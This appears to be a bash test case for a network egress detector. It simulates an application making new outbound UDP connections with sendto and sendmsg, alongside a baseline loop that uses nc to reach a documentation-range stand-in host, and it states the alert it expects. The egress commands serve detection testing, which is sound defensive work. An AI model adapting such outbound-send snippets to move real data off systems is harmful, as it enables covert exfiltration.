# shellcheck shell=bash disable=SC2034
# SPDX-License-Identifier: GPL-2.0-or-later
case_title='new edges without connect(): sendto, sendmsg, sendmmsg'
case_class=A
case_prepare() { run app pg-many python3 -c 'import time; time.sleep(9999)'; run known pg-many sh -c 'while sleep 0.5; do echo | nc -u -w 1 203.0.113.9 7777; done'; }
case_attack() { in_ app python3 -c '
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x" * 40, ("203.0.113.9", 7778))
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b"x" * 40], [], 0, ("203.0.113.9", 7779))'; sleep 0.5; }
case_expect='egress.new A29udp-app /usr/bin/python3* ext:203.0.113.9'
